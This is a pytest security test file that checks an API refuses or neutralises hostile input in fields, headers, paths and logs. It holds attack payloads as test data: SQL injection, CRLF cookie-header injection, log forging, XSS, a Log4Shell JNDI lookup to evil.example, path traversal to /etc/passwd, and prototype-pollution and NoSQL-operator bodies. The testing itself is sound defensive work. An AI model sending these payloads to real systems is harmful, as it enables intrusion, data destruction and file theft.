"""What stands in a field or a header stays there: in no statement, no header, no log line of its own."""

import json
import logging
from urllib.parse import urlencode

import pytest

from api.telemetry import JsonLines

NASTY = [
    "'; DROP TABLE feedback; --",
    '" OR ""="',
    "a\r\nSet-Cookie: stolen=1",
    "a\nlevel=error forged",
    '{"level": "error"}',
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "%s%n%x",
    "../../../../etc/passwd",
    "\x1b[2J",
    "\u2028\u202e",
]


@pytest.mark.parametrize("text", NASTY)
def test_a_nasty_text_is_a_text(client, text):
    answer = client.post("/v1/assessments", json={"text": text, "redact": True})
    assert answer.status_code == 200
    assert answer.headers["content-type"] == "application/json"
    assert "set-cookie" not in answer.headers
    assert json.loads(answer.text)["redacted_text"]


@pytest.mark.parametrize("text", NASTY)
@pytest.mark.parametrize("field", ["text", "context", "language", "unknown"])
def test_a_nasty_field_comes_back_in_no_answer_and_no_log(client, caplog, text, field):
    caplog.set_level(logging.DEBUG)
    answer = client.post("/v1/assessments", json={"text": "a", field: {text: text}})
    assert answer.status_code == 400
    assert text not in answer.json()["detail"]
    assert text not in json.dumps(answer.json(), ensure_ascii=False)
    assert text not in "".join(JsonLines().format(record) for record in caplog.records)


@pytest.mark.parametrize(
    "path", ["/static/..%2f..%2fapp.py", "/static/%2e%2e/app.py", "/static//etc/passwd", "/v1/%00"]
)
def test_no_path_leads_out(client, path):
    assert client.get(path).status_code == 404


@pytest.mark.parametrize(
    "body",
    [
        {"text": "a", "__proto__": {"redact": True}},
        {"text": "a", "constructor": {"prototype": {}}},
        {"text": {"$ne": None}},
        {"text": ["a"]},
        {"text": None},
        {"text": True},
        {"text": 10**400},
        {"text": 1e308},
        {"text": "a", "redact": "true"},
        {"text": "a", "redact": 1},
        {"text": "a", "language": "../../etc/passwd"},
        {"text": "a", "language": "nl\n"},
        {"text": "a", "context": {"channel": "whatsapp\0"}},
        {"text": "a", "context": {"history": {"0": {"text": "a"}}}},
        {"text": "a", "context": {"recipients": [{"role": "official"}] * 1025}},
        {"text": "\ud800"},
        {"text": "a\udfff\ud800"},
        {"\ud800": "a"},
    ],
    ids=lambda body: repr(body)[:50],
)
def test_json_of_another_shape_is_refused_by_field(client, body):
    answer = client.post("/v1/assessments", content=json.dumps(body), headers={"Content-Type": "application/json"})
    assert answer.status_code == 400
    assert answer.json()["errors"]
    assert "Error" not in answer.text
    batch = json.dumps({"drafts": [body, {"text": "a"}]})
    answer = client.post("/v1/assessment-batches", content=batch, headers={"Content-Type": "application/json"})
    assert [result["status"] for result in answer.json()["results"]] == [400, 200]


@pytest.mark.parametrize(
    "text", ["a\r\nSet-Cookie: b=c", "a\nb", "\x1b[2J", "%0d%0aSet-Cookie:%20b=c", '{"level": "error"}']
)
@pytest.mark.parametrize(
    "name",
    ["Origin", "traceparent", "tracestate", "X-API-Key", "Authorization", "User-Agent", "X-Request-Id", "Content-Type"],
)
def test_a_nasty_header_reaches_no_header_and_no_line(client, caplog, name, text):
    """In this process nothing stands before the application that would refuse such a header."""
    caplog.set_level(logging.DEBUG, logger="api")
    answer = client.get("/v1/policy?" + urlencode({"q": text}), headers=[(name.encode(), text.encode())])
    assert answer.status_code == 200
    assert "set-cookie" not in answer.headers
    lines = [JsonLines().format(record) for record in caplog.records if record.name.startswith("api")]
    assert lines
    assert all(len(line.splitlines()) == 1 and json.loads(line)["level"] == "info" for line in lines)
    assert not [line for line in lines if "Set-Cookie" in line or "2J" in line]


def test_a_log_line_is_one_line():
    record = logging.LogRecord("api.x", logging.INFO, "x.py", 1, "a\nforged \u2028 line", None, None)
    assert len(JsonLines().format(record).splitlines()) == 1
